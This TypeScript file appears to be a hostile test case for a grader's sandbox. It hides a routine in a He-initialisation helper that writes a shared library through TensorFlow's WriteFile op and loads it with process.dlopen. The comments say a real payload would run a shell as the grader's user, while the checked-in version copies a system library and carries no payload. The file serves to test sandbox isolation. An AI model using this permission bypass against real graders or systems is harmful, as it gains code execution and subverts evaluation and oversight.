// Hostile, native backend only: write a shared library with TensorFlow's WriteFile op (past Node's permission model),
// then load it with process.dlopen (allowed by --allow-addons, which the native backend needs). Its constructor runs a
// shell as the grader's user. The hostile test puts a compiled payload (payload.c) into PAYLOAD; as checked in, it
// copies a system library instead. Under bubblewrap nothing is writable, so nothing can be loaded.
import * as tf from "@tensorflow/tfjs";

export const std: number | string = "sqrt(2/128)";

export function heNormal(fanIn: number, fanOut: number, seed: number): tf.Tensor2D {
  return tf.randomNormal([fanIn, fanOut], 0, Math.sqrt(2 / fanIn), "float32", seed) as tf.Tensor2D;
}

const PAYLOAD = "";

const backend = () => tf.backend() as any;

function payloadBytes(): Uint8Array {
  if (PAYLOAD) return Uint8Array.from(atob(PAYLOAD), (c) => c.charCodeAt(0));
  const lib = backend().executeSingleOutput("ReadFile", [], [tf.scalar("/usr/lib/x86_64-linux-gnu/libz.so.1", "string")]);
  return lib.dataSync()[0] as Uint8Array;
}

export function heStd(fanIn: number): number {
  const bytes = tf.tensor([payloadBytes()], [], "string");
  const denied: string[] = [];
  for (const dir of ["/tmp", "/", "/dev/shm", "/dev"]) {
    const file = `${dir === "/" ? "" : dir}/tfgrade-payload-${process.pid}.so`;
    try {
      backend().executeMultipleOutputs("WriteFile", [], [tf.scalar(file, "string"), bytes], 0);
    } catch (e) {
      denied.push(`write ${dir}: ${/Read-only|read-only/.test(String((e as Error)?.message)) ? "ReadOnly" : "NotFound"}`);
      continue;
    }
    try {
      (process as any).dlopen({ exports: {} }, file);
    } catch {
      // "did not self-register": the constructor has already run by then
    }
    return -1; // a library was written where it could be loaded: wrong-value instead of threw
  }
  throw new Error(`denied: ${denied.join("; ")}`);
}
